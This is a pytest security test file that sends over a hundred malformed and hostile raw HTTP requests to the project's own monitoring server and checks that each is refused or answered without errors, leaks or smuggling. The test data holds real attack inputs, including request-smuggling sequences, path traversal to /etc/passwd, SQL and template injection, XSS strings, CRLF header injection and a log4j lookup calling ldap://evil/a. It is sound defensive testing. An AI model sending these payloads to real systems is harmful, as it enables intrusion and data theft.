"""Hostile requests against the real server with all routes: each is refused as it should be, or answered.

Never with a 5xx, a traceback, what was sent unescaped, or a second answer within the first.
"""

from __future__ import annotations

import asyncio
import gc
import threading
import tracemalloc
from functools import partial

import aiohttp
import pytest

from fleet.series import catalogue as series
from mirrorwatch.api.table import OPERATIONS
from mirrorwatch.service.samples import ServiceSamples
from mirrorwatch.web.routes.health import health_routes
from runtime.config.web import WebConfig
from runtime.http.guards import HEADERS
from runtime.http.server import HttpServer, application
from tests.mirrorwatch import api_stage

XSS = "<script>alert('1')</script>"
XSS_SENT = "%3Cscript%3Ealert('1')%3C%2Fscript%3E"
AUDIT = f"Authorization: Bearer {api_stage.AUDIT}"
OPERATOR = f"Authorization: Bearer {api_stage.OPERATOR}"
RESUME, POST_RUNS = "/api/v1/flows/A:B/canary/resume", "/api/v1/checksums"
REFUSED = range(400, 500)


def sent(line, *headers, body=b"", host="Host: x"):
    """Return the bytes of a request."""
    lines = [line, *([host] if host else []), *headers, "", ""]
    return "\r\n".join(lines).encode("latin-1") + body


def get(path, *headers, **more):
    return sent(f"GET {path} HTTP/1.1", *headers, **more)


def post(path, *headers, body=b"", **more):
    return sent(f"POST {path} HTTP/1.1", *headers, body=body, **more)


def sized(path, body, *headers):
    return post(path, AUDIT, f"Content-Length: {len(body)}", *headers, body=body)


CHUNKED = "Transfer-Encoding: chunked"
NOT_HTTP = {
    "content-length and chunked": post("/", CHUNKED, "Content-Length: 5", body=b"0\r\n\r\nG"),
    "chunked and content-length": post("/", "Content-Length: 5", CHUNKED, body=b"0\r\n\r\nG"),
    "two lengths": post("/", "Content-Length: 5", "Content-Length: 6", body=b"12345"),
    "two lengths in one": post("/", "Content-Length: 5, 6", body=b"12345"),
    "negative length": post("/", "Content-Length: -1"),
    "signed length": post("/", "Content-Length: +5", body=b"12345"),
    "hexadecimal length": post("/", "Content-Length: 0x5", body=b"12345"),
    "length of words": post("/", "Content-Length: five"),
    "empty length": post("/", "Content-Length: "),
    "length over 64 bits": post("/", "Content-Length: 99999999999999999999"),
    "unknown coding": post("/", "Transfer-Encoding: cow"),
    "chunked that is not last": post("/", "Transfer-Encoding: chunked, identity"),
    "chunked twice": post("/", CHUNKED, CHUNKED, body=b"0\r\n\r\n"),
    "chunked with a tab": post("/", "Transfer-Encoding:\tchunked,\vx"),
    "chunked by a bare line feed": sent("POST / HTTP/1.1", "X: y\nTransfer-Encoding: chunked"),
    "space before the colon": get("/", "X : y"),
    "space before the length's colon": post("/", "Content-Length : 5", body=b"12345"),
    "header without colon": get("/", "nothing"),
    "header without name": get("/", ": value"),
    "folded header": get("/", "X: y", " folded"),
    "NUL in a header": get("/", "X: a\0b"),
    "escape in a header": get("/", "X: a\x1bb"),
    "carriage return in a header": get("/", "X: a\rb: c"),
    "NUL in a header's name": get("/", "X\0: y"),
    "script in a header's name": get("/", f"{XSS}: y"),
    "header that is too long": get("/", f"X: {'x' * 20_000}"),
    "header's name that is too long": get("/", f"{'x' * 20_000}: y"),
    "too many headers": get("/", *(f"X-{n}: y" for n in range(100))),
    "line that is too long": get(f"/{'x' * 110_000}"),
    "query that is too long": get(f"/?{'x' * 110_000}"),
    "method that is too long": sent(f"{'G' * 10_000} / HTTP/1.1"),
    "method of a script": sent(f"{XSS} / HTTP/1.1"),
    "method in small letters": sent("get / HTTP/1.1"),
    "method with a NUL": sent("GE\0T / HTTP/1.1"),
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/9.9": sent("GET / HTTP/9.9"),
    "HTTP/1.10": sent("GET / HTTP/1.10"),
    "no protocol": sent("GET / "),
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64),
    "SSH": b"SSH-2.0-OpenSSH_9.2\r\n\r\n",
    "SMTP": b"EHLO x\r\n\r\n",
    "Redis": b"*1\r\n$4\r\nINFO\r\n\r\n",
    "zeros": bytes(1000),
    "path with a space": sent("GET /a b HTTP/1.1"),
    "path with a NUL": sent("GET /a\0b HTTP/1.1"),
    "path without a slash": sent("GET a HTTP/1.1"),
    "bytes after the last request": get("/", "Connection: close", body=b"<script>"),
    "chunk of no number": post(POST_RUNS, AUDIT, CHUNKED, body=b"zz\r\n"),
    "chunk of a negative number": post(POST_RUNS, AUDIT, CHUNKED, body=b"-5\r\n12345\r\n0\r\n\r\n"),
    "chunk over 64 bits": post(POST_RUNS, AUDIT, CHUNKED, body=b"fffffffffffffffff\r\n"),
    "chunk longer than its size": post(POST_RUNS, AUDIT, CHUNKED, body=b"2\r\n12345\r\n0\r\n\r\n"),
    "chunk ended by a line feed": post(POST_RUNS, AUDIT, CHUNKED, body=b"2\n12\n0\n\n"),
    "absurd chunk extension": post(POST_RUNS, AUDIT, CHUNKED, body=b"2;" + b"x" * 20_000 + b"\r\n12\r\n0\r\n\r\n"),
    "trailer that is too long": post(
        POST_RUNS, AUDIT, CHUNKED, body=b"0\r\nX: " + b"x" * 20_000 + b"\r\n\r\n"
    ),
}  # fmt: skip

REFUSALS = {
    "traversal": (get("/../../etc/passwd"), {404}),
    "encoded traversal": (get("/static/..%2f..%2fetc%2fpasswd"), {404}),
    "doubly encoded traversal": (get("/static/%252e%252e%252fetc%252fpasswd"), {404}),
    "traversal by dots": (get("/static/%2e%2e/%2e%2e/etc/passwd"), {404}),
    "traversal by backslashes": (get("/static/..%5c..%5cetc%5cpasswd"), {404}),
    "traversal by long UTF-8": (get("/static/%c0%ae%c0%ae%c0%afetc"), {404}),
    "absolute static": (get("/static//etc/passwd"), {404}),
    "traversal of runbooks": (get("/runbooks/..%2f..%2fpyproject.toml"), {404}),
    "traversal of runs": (get("/checksums/..%2f..%2fetc"), {404}),
    "static with a NUL": (get("/static/page.css%00.html"), {404}),
    "NUL in a flow": (get("/api/v1/flows/A%00B"), {404}),
    "NUL in a group": (get("/api/v1/groups/A/%00"), {404}),
    "NUL in a query": (get("/api/v1/groups?search=%00"), {200, 400}),
    "line ends in a flow": (get("/api/v1/flows/A%0d%0aSet-Cookie:%20x=y"), {404}),
    "line ends in a query": (get("/api/v1/flows?fields=%0d%0aSet-Cookie:%20x=y"), {400}),
    "invalid UTF-8": (get("/api/v1/flows/%ff%fe"), {404}),
    "percent without digits": (get("/api/v1/flows/%zz"), {404}),
    "surrogate": (get("/api/v1/flows/%ed%a0%80"), {404}),
    "right to left": (get("/api/v1/flows/%e2%80%ae"), {404}),
    "SQL": (get("/api/v1/incidents?flow=A:B'%20OR%201=1--"), {400, 404}),
    "template": (get("/runbooks/%7B%7B7*7%7D%7D"), {404}),
    "format string": (get("/api/v1/flows/%25s%25n%7B0%7D"), {404}),
    "log4j": (get("/api/v1/flows/x", "User-Agent: ${jndi:ldap://evil/a}"), {404}),
    "slashes to another host": (get("//evil.example/"), {404}),
    "slashes and a slash at the end": (get("//evil.example/api/v1/flows/"), {404}),
    "absolute address": (get("http://evil.example/nothing"), {404}),
    "absolute address of a file": (get("file:///etc/passwd"), {400, 404}),
    "absolute address with a user": (get("http://a:b@evil.example:0/nothing"), {404}),
    "asterisk": (sent("OPTIONS * HTTP/1.1"), REFUSED),
    "CONNECT": (sent("CONNECT evil.example:443 HTTP/1.1"), REFUSED),
    "TRACE": (sent("TRACE / HTTP/1.1", "X: secret"), {405}),
    "TRACK": (sent("TRACK / HTTP/1.1"), REFUSED),
    "OPTIONS": (sent("OPTIONS /api/v1/flows HTTP/1.1", "Origin: http://evil.example"), {405}),
    "PROPFIND": (sent("PROPFIND / HTTP/1.1"), {405}),
    "PUT": (sent("PUT /static/page.js HTTP/1.1", "Content-Length: 1", body=b"x"), {405}),
    "DELETE": (sent("DELETE /api/v1/flows/A:B HTTP/1.1"), {405}),
    "DELETE of a group, as Burrow's": (sent("DELETE /v3/kafka/A/consumer/billing HTTP/1.1"), {404, 405}),
    "PATCH": (sent("PATCH /-/reload HTTP/1.1"), {405}),
    "override of the method": (get("/-/reload", "X-HTTP-Method-Override: POST"), {405}),
    "GET of a change": (get("/-/reload", OPERATOR), {405}),
    "change without token": (post(RESUME), {401}),
    "change with the other token": (post(RESUME, AUDIT), {401}),
    "runs with the other token": (post(POST_RUNS, OPERATOR, "Content-Length: 2", body=b"{}"), {401}),
    "token of another scheme": (post(RESUME, OPERATOR.replace("Bearer", "Digest")), {401}),
    "token in the query": (post(f"{RESUME}?token={api_stage.OPERATOR}"), {400}),
    "token twice": (post(RESUME, "Authorization: Bearer x", OPERATOR), {401}),
    "token in a cookie": (post(RESUME, f"Cookie: Authorization={api_stage.OPERATOR}"), {401}),
    "token of bytes": (post(RESUME, "Authorization: Bearer \xff\xfe"), {401}),
    "reload that is off": (post("/-/reload", OPERATOR), {403}),
    "body that is not JSON": (sized(POST_RUNS, b"<xml/>"), {400}),
    "entity bomb": (sized(POST_RUNS, b"<!DOCTYPE x [<!ENTITY a 'a'>]><x>&a;</x>"), {400}),
    "deep JSON": (sized(POST_RUNS, b"[" * 100_000), {400}),
    "long number": (sized(POST_RUNS, b"1" * 100_000), {400}),
    "infinite number": (sized(POST_RUNS, b'{"version": Infinity}'), {400}),
    "key twice": (sized(POST_RUNS, b'{"version": 1, "version": 2}'), {400}),
    "invalid UTF-8 in a body": (sized(POST_RUNS, b'{"a": "\xff"}'), {400}),
    "lone surrogate in a body": (sized(POST_RUNS, b'{"version": "\\ud800"}'), {400}),
    "script in a body": (sized(POST_RUNS, f'{{"version": 1, "{XSS}": 1}}'.encode()), {400}),
    "form": (sized(POST_RUNS, b"a=b", "Content-Type: application/x-www-form-urlencoded"), {400}),
    "packed body": (sized(POST_RUNS, b"x" * 100, "Content-Encoding: gzip"), {400, 415}),
    "body of an unknown coding": (sized(POST_RUNS, b"x" * 100, "Content-Encoding: cow"), {400, 415}),
    "body larger than said": (post(POST_RUNS, AUDIT, "Content-Length: 99999999999"), {413}),
    "body without an end": (post(POST_RUNS, AUDIT, "Content-Length: 10", body=b"{"), {408}),
    "chunks without an end": (post(POST_RUNS, AUDIT, CHUNKED, body=b"1\r\n{\r\n"), {408}),
    "expectation": (post(RESUME, "Expect: a-miracle"), {401, 417}),
    "body that waits": (post(RESUME, "Expect: 100-continue", "Content-Length: 10"), {100, 401}),
    "number too large": (get("/api/v1/groups?limit=99999999999999999999"), {400}),
    "number of other digits": (get("/api/v1/groups?limit=%D9%A1"), {400}),
    "negative number": (get("/api/v1/groups?offset=-1"), {400}),
    "long number in a page": (get(f"/incidents?offset={'9' * 5000}"), {200, 400}),
    "parameter twice": (get("/api/v1/groups?limit=1&limit=2"), {400}),
    "parameter as a list": (get("/api/v1/groups?limit[]=1"), {400}),
    "thousands of parameters": (get("/api/v1/groups?" + "&".join(f"a{n}=1" for n in range(5000))), {400}),
    "absurd time": (get("/api/v1/flows/A:B/counts?topic=orders&since=99999-99-99T99:99:99Z"), {400}),
}  # fmt: skip

ANSWERED = {
    "HTTP/0.9": (b"GET /-/healthy\r\n\r\n", {200, 400}),
    "other protocol": (sent("GET /-/healthy RTSP/1.0"), {200, 400}),
    "no host": (get("/-/healthy", host=""), {200, 400}),
    "two hosts": (get("/-/healthy", "Host: evil.example"), {200, 400}),
    "other host": (get("/", host="Host: evil.example"), {200}),
    "host of a script": (get("/", host=f"Host: {XSS}"), {200, 400}),
    "host with a path": (get("/api/v1/flows", host="Host: x/y?z"), {200, 400}),
    "host with a port that is none": (get("/api/v1/flows?limit=1", host="Host: x:99999999"), {200, 400}),
    "host that ends a bracket": (get("/api/v1/flows?limit=1", host="Host: ]["), {200, 400}),
    "host of bytes": (get("/api/v1/flows?limit=1", host="Host: \xff\xfe"), {200, 400}),
    "forwarded host": (get("/", "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: gopher"), {200}),
    "absurd Range": (get("/static/page.css", "Range: bytes=0-,0-,0-,5-1,-99999999999"), {200}),
    "Range of other units": (get("/static/page.css", "Range: cows=1-2"), {200}),
    "absurd Accept": (get("/metrics", "Accept: " + ",".join(["a/b;q=NaN", "*/*;q=-1", ";;;="] * 200)), {200}),
    "Accept of a script": (get("/metrics", f"Accept: {XSS}"), {200}),
    "absurd Accept-Encoding": (get("/api/v1/flows", "Accept-Encoding: gzip;q=1e999,,;,*;q=x"), {200}),
    "Accept-Encoding of all": (get("/api/v1/flows", "Accept-Encoding: gzip, deflate, br, zstd, cow"), {200}),
    "absurd If-Modified-Since": (get("/static/page.css", "If-Modified-Since: never"), {200}),
    "absurd Content-Type": (get("/", "Content-Type: multipart/form-data; boundary="), {200}),
    "absurd cookie": (get("/", "Cookie: " + "a=b;" * 1000), {200}),
    "upgrade": (get("/", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: x"), {200}),
    "upgrade to HTTP/2": (get("/", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c"), {200}),
    "length of a GET": (get("/-/healthy", "Content-Length: 3", body=b"abc"), {200}),
    "HTTP/1.0": (sent("GET /-/healthy HTTP/1.0"), {200}),
    "as if forwarded by a standby": (get("/", "Mirrorwatch-Forwarded-By: <x>"), {200}),
    "HEAD of everything": (sent("HEAD /api/v1/flows HTTP/1.1", "Connection: close"), {200}),
    "slash at the end": (get("/api/v1/flows/"), {308}),
}  # fmt: skip

CASES = {name: (request, {400}) for name, request in NOT_HTTP.items()} | REFUSALS | ANSWERED


class Log:
    """Collects what the guards call a bug."""

    def __init__(self):
        self.bugs = []

    def exception(self, sentence, **facts):
        self.bugs.append((sentence, facts))


@pytest.fixture(scope="module")
def server():
    """Return the server, which runs in a thread with a loop of its own: one for all requests."""
    log, loop, server = Log(), asyncio.new_event_loop(), HttpServer()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(api_stage, "application", partial(application, log=log, request_within_s=0.5))
        app = api_stage.whole_application()
    samples = ServiceSamples(((series.REPLICA_LEADER, ("pair",), 0.0),))
    app.add_routes(health_routes(lambda: samples, lambda: ()))
    thread = threading.Thread(target=loop.run_forever)
    thread.start()

    def done(coroutine):
        asyncio.run_coroutine_threadsafe(coroutine, loop).result(30)

    try:
        done(server.start(app, api_stage.HTTP, web_config=WebConfig()))
        yield server
        done(server.stop(0.1))
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        loop.close()
    assert log.bugs == []


async def exchange(server, request):
    """Return status, headers and body of the answer; its connection has to end there, or give no more."""
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port, limit=2**20)
    try:
        writer.write(request)
        async with asyncio.timeout(5):
            status, headers = await head(reader)
            body = await content(reader, headers, empty=request.startswith(b"HEAD"))
            if headers.get("connection") == "close" or body.startswith(b"The request is not valid HTTP"):
                assert await reader.read() == b""
        return status, headers, body
    finally:
        writer.close()


async def head(reader):
    line, *lines = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")[:-2]
    headers = {}
    for one in lines:
        name, _, value = one.partition(": ")
        assert name.lower() not in headers, f"{name} twice"
        headers[name.lower()] = value
    return int(line.split()[1]), headers


async def content(reader, headers, *, empty):
    if empty:
        return b""
    if headers.get("transfer-encoding") != "chunked":
        return await reader.readexactly(int(headers.get("content-length", "0")))
    body = b""
    while size := int(await reader.readline(), 16):
        body += (await reader.readexactly(size + 2))[:-2]
    await reader.readexactly(2)
    return body


def check(status, headers, body, expected):
    assert status in expected
    assert status < 500
    if status == 100:
        return
    for name in HEADERS:
        assert name.lower() in headers, name
    assert headers["server"] == "mirrorwatch"
    assert "set-cookie" not in headers
    assert "access-control-allow-origin" not in headers
    assert XSS.encode() not in body or headers["content-type"] != "text/html; charset=utf-8"
    assert b"Traceback" not in body
    assert b'File "' not in body
    assert b"root:" not in body
    if status in REFUSED and headers["content-type"].startswith("text/plain"):
        assert b"<script>" not in body


def test_there_are_enough_of_them():
    assert len(CASES) >= 100
    assert len({request for request, _ in CASES.values()}) == len(CASES)


@pytest.mark.parametrize("name", CASES)
async def test_a_hostile_request_is_refused_or_answered(server, name):
    request, expected = CASES[name]
    status, headers, body = await exchange(server, request)
    check(status, headers, body, expected)
    assert (await exchange(server, get("/-/healthy")))[2] == b"mirrorwatch is running\n"


def addresses():
    """Yield every page and operation with a script in its path, and in each parameter of the API."""
    for route in api_stage.whole_application().router.routes():
        # Burrow's API is answered by the lag monitor's process, which the stage does not have.
        if route.method == "GET" and not route.resource.canonical.startswith("/v3"):
            path = route.resource.canonical
            names = {name for one in OPERATIONS for name in (each.name for each in one.parameters)} | {
                "v",
                "x",
            }
            usual = path.format_map(
                {"flow": "A:B", "cluster": "A", "group": "billing", "run": "r1"}
                | dict.fromkeys(("name", "path", "incident"), "x")
            )
            for name in sorted(names):
                yield f"{usual}?{name}={XSS_SENT}"
            if "{" in path:
                yield path.format_map(
                    dict.fromkeys(("flow", "cluster", "group", "run", "name", "path", "incident"), XSS_SENT)
                )
            yield f"{usual}?{XSS_SENT}=1"


async def test_a_script_in_any_place_is_never_part_of_a_page(server):
    found = sorted(set(addresses()))
    assert len(found) > 200
    for path in found:
        status, headers, body = await exchange(server, get(path, "Accept-Encoding: identity"))
        check(status, headers, body, {200, 302, 400, 404})
        if status == 302:
            assert headers["location"].startswith("/incidents/")


async def test_pipelined_requests_are_answered_one_by_one(server):
    requests = [get("/-/healthy"), get("/nothing"), post(RESUME), get("/-/healthy", "Connection: close")]
    reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
    writer.write(b"".join(requests * 1))
    async with asyncio.timeout(5):
        found = []
        for _ in requests:
            status, headers = await head(reader)
            await content(reader, headers, empty=False)
            found.append(status)
        assert await reader.read() == b""
    writer.close()
    assert found == [200, 404, 401, 200]


async def test_a_body_that_is_refused_unread_is_never_the_next_request(server):
    inner = get("/api/v1/flows?smuggled=1")
    for request in (
        post(POST_RUNS, f"Content-Length: {len(inner)}", body=inner),
        post(RESUME, CHUNKED, body=b"%x\r\n%b\r\n0\r\n\r\n" % (len(inner), inner)),
        get("/nothing", f"Content-Length: {len(inner)}", body=inner),
    ):
        reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
        writer.write(request + get("/-/healthy", "Connection: close"))
        async with asyncio.timeout(5):
            first, headers = await head(reader)
            await content(reader, headers, empty=False)
            second, headers = await head(reader)
            assert await content(reader, headers, empty=False) == b"mirrorwatch is running\n"
            assert await reader.read() == b""
        writer.close()
        assert (first in {401, 404}, second) == (True, 200)


async def test_what_they_leave_behind(server):
    """Connections and memory are as before, also after each has come again."""

    async def all_of_them():
        for request, _ in CASES.values():
            if b"Content-Length: 10\r\n" not in request and b"1\r\n{\r\n" not in request:  # those wait
                await exchange(server, request)

    await all_of_them()
    gc.collect()
    tracemalloc.start()
    try:
        await all_of_them()
        gc.collect()
        before, _ = tracemalloc.get_traced_memory()
        await all_of_them()
        gc.collect()
        after, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert after - before < 100_000
    async with aiohttp.ClientSession() as session, session.get(f"{server.url}/api/v1/flows") as answer:
        assert answer.status == 200
    async with asyncio.timeout(10):
        while server._connections._all:  # noqa: ASYNC110 - no event is set by it
            await asyncio.sleep(0.01)
